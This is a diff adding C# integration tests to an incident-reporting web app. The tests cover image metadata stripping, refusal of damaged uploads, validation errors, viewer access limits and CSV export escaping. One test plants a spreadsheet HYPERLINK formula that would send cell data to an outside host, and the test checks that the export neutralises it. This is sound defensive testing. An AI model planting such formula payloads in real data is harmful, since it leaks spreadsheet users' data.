@@ -206,6 +206,79 @@ public sealed class FieldSharingTests : EmptyAppTest
         var foreign = await CheckAsync(mapping.Replace("\"CRAGG\"", "\"RELUFA\""));
         Assert.Contains("You are not an analyst of the organisation the mapping names", foreign);
         Assert.Contains("Le fichier de correspondance ne se lit pas", await CheckAsync("{ not json"));
+        Assert.Contains("maps reporterName to no form field", await CheckAsync("""{"kind": "incident", "organisation": "CRAGG", "fields": {"clientId": "_uuid", "reporterName": null}}"""));
         Assert.Equal(0, await App.WithDb(db => db.Incidents.CountAsync(Cancel)));
+    }
+
+    [Fact]
+    public async Task AnImageIsStoredFromItsPixelsAloneAndADamagedOneIsRefusedNotKept()
+    {
+        var monitor = await People.ApiClientAsync(App, "monitor@example.org", MemberRole.Monitor, "CRAGG");
+        var id = await SubmitAsync(monitor, Incident("violence", "2026-11-01", "CAF", 4.36712, 18.58234));
+        byte[] png;
+        using (var image = new SixLabors.ImageSharp.Image<SixLabors.ImageSharp.PixelFormats.Rgba32>(40, 30))
+        {
+            SixLabors.ImageSharp.MetadataExtensions.GetPngMetadata(image.Metadata).TextData
+                .Add(new SixLabors.ImageSharp.Formats.Png.PngTextData("Comment", "SECRET-PNG-TEXT GPS 4.123456,18.654321", "", ""));
+            using var stream = new MemoryStream();
+            SixLabors.ImageSharp.ImageExtensions.SaveAsPng(image, stream);
+            png = stream.ToArray();
+        }
+        Assert.Contains("SECRET-PNG-TEXT", System.Text.Encoding.Latin1.GetString(png));
+        MultipartFormDataContent Form(byte[] bytes, string name) => new() { { new ByteArrayContent(bytes), "file", name } };
+
+        var sent = await monitor.PostAsync($"/api/v1/field/incidents/{id}/evidence", Form(png, "carte.gif"), Cancel);
+        var stored = (await sent.Content.ReadFromJsonAsync<EvidenceDto>(Cancel))!;
+        Assert.Equal(("image/png", "carte.png", true), (stored.ContentType, stored.FileName, stored.MetadataRemoved));
+        var analyst = await People.ApiClientAsync(App, "analyst@example.org", MemberRole.Analyst, "CRAGG");
+        var bytes = await analyst.GetByteArrayAsync(stored.Address, Cancel);
+        Assert.DoesNotContain("SECRET-PNG-TEXT", System.Text.Encoding.Latin1.GetString(bytes));
+        Assert.Equal((40, 30), SixLabors.ImageSharp.Image.Identify(bytes) is { } info ? (info.Width, info.Height) : default);
+
+        var cut = await monitor.PostAsync($"/api/v1/field/incidents/{id}/evidence", Form(png[..60], "coupee.png"), Cancel);
+        Assert.Equal(HttpStatusCode.BadRequest, cut.StatusCode);
+        Assert.Contains("cannot be read", await cut.Content.ReadAsStringAsync(Cancel));
+        Assert.Equal(1, await App.WithDb(db => db.EvidenceFiles.CountAsync(Cancel)));
+    }
+
+    [Fact]
+    public async Task RequestsThatCannotBeReadAreAnsweredWithWhatToChange()
+    {
+        var monitor = await People.ApiClientAsync(App, "monitor@example.org", MemberRole.Monitor, "CRAGG");
+        var analyst = await People.ApiClientAsync(App, "analyst@example.org", MemberRole.Analyst, "CRAGG");
+        var viewer = await People.ApiClientAsync(App, "viewer@example.org", MemberRole.Viewer, "CRAGG");
+
+        var badUuid = await monitor.PostAsync("/api/v1/field/submissions",
+            new StringContent("""{"clientId": "not-a-uuid", "kind": "incident"}""", System.Text.Encoding.UTF8, "application/json"), Cancel);
+        Assert.Equal(HttpStatusCode.BadRequest, badUuid.StatusCode);
+        Assert.Contains("$.clientId", await badUuid.Content.ReadAsStringAsync(Cancel));
+        var badYear = await App.CreateClient().GetAsync("/api/v1/incidents?from=abc", Cancel);
+        Assert.Equal(HttpStatusCode.BadRequest, badYear.StatusCode);
+        Assert.Contains("From", await badYear.Content.ReadAsStringAsync(Cancel));
+        var noMinerals = await analyst.PostAsJsonAsync("/api/v1/sites", new { name = "Kpawa", countryIso3 = "CAF", latitude = 4.2, longitude = 15.8, kind = "artisanal", minerals = " , ," }, Cancel);
+        Assert.Contains("\"minerals\"", await noMinerals.Content.ReadAsStringAsync(Cancel));
+
+        // A description a spreadsheet would run is written as text, and a site names no exact place to a viewer.
+        var site = await IpisSiteAsync();
+        await SubmitAsync(monitor, new
+        {
+            clientId = Guid.NewGuid(), kind = "incident", category = "violence", occurredOn = "2026-11-01", latitude = 4.36712, longitude = 18.58234, severity = "serious",
+            description = "=HYPERLINK(\"http://example.org/?x=\"&A1,\"voir\")", countryIso3 = "CAF", siteId = site,
+        });
+        var csv = await viewer.GetStringAsync("/api/v1/field/incidents?format=csv", Cancel);
+        Assert.Contains(",\"'=HYPERLINK(\"\"http", csv);
+        Assert.Null(Assert.Single((await viewer.GetFromJsonAsync<List<IncidentDto>>("/api/v1/field/incidents", Cancel))!).SiteId);
+        Assert.Equal(site, Assert.Single((await analyst.GetFromJsonAsync<List<IncidentDto>>("/api/v1/field/incidents", Cancel))!).SiteId);
+
+        // The offline form's own handler: a body that is not a submission is refused, never a failure of the server.
+        await People.CreateAsync(App, "page-monitor@example.org", MemberRole.Monitor, "CRAGG", twoFactor: false);
+        var page = await People.SignInAsync(App, "page-monitor@example.org");
+        var token = await People.TokenAsync(page, "/field/new");
+        foreach (var body in new[] { "", "null", """{"kind":"incident",""", """{"clientId":"abc"}""" })
+        {
+            using var request = new HttpRequestMessage(HttpMethod.Post, "/field/new?handler=Submit") { Content = new StringContent(body, System.Text.Encoding.UTF8, "application/json") };
+            request.Headers.Add("RequestVerificationToken", token);
+            Assert.Equal(HttpStatusCode.BadRequest, (await page.SendAsync(request, Cancel)).StatusCode);
+        }
     }
 }
